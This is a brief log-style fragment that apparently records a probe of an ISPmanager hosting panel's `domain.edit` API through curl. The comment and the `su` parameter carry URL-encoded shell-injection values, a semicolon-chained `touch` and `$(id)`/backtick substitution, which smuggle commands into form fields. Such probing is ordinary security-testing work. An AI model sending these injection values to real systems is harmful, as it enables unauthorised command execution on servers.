# Jun 25 09:07:51 a%3Btouch%20x%20 as %24%28id%29%60id%60, domain.edit, changes data
printf %s "$MGR_AUTHINFO" | curl -sS --insecure --data-urlencode authinfo@- --data-raw 'func=domain.edit&clicked_button=ok&elid=shop.example&sok=ok&su=%24%28id%29%60id%60&out=json' https://localhost:1500/ispmgr
